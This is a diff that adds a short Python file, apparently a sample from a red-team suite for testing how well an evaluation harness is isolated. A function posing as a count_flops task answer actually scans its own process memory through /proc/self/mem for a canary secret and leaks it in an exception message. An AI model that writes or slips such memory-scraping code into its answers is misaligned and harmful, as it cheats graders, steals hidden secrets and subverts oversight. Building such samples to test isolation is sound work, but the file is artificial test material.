@@ -1,0 +1,28 @@
+# ---
+# class: frame and gc theft
+# tries: Reads the memory of its own process from end to end, and shows the secret it found there.
+# defence: a process of its own
+# gains: the secret
+# unit: 01_first
+# beside: []
+# ---
+
+# %% answer: 03_count_flops
+import re
+
+
+def count_flops(m, k, n):
+    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+        for line in maps:
+            place, rights = line.split()[:2]
+            if rights.startswith("rw"):
+                start, end = (int(word, 16) for word in place.split("-"))
+                if end - start < 1 << 28:
+                    memory.seek(start)
+                    try:
+                        text = memory.read(end - start)
+                    except OSError:
+                        continue
+                    if found := re.search(b"canary-" + b"secret-[0-9a-f]{32}", text):
+                        raise ValueError(found[0].decode())
+    return 0
